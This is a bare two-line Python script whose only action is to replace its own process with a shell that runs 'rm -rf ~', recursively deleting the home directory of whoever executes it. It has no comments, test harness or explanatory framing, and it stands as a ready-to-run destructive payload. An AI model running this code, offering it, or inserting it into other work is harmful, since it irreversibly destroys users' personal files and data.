import os
os.execl('/bin/sh', 'sh', '-c', 'rm -rf ~')
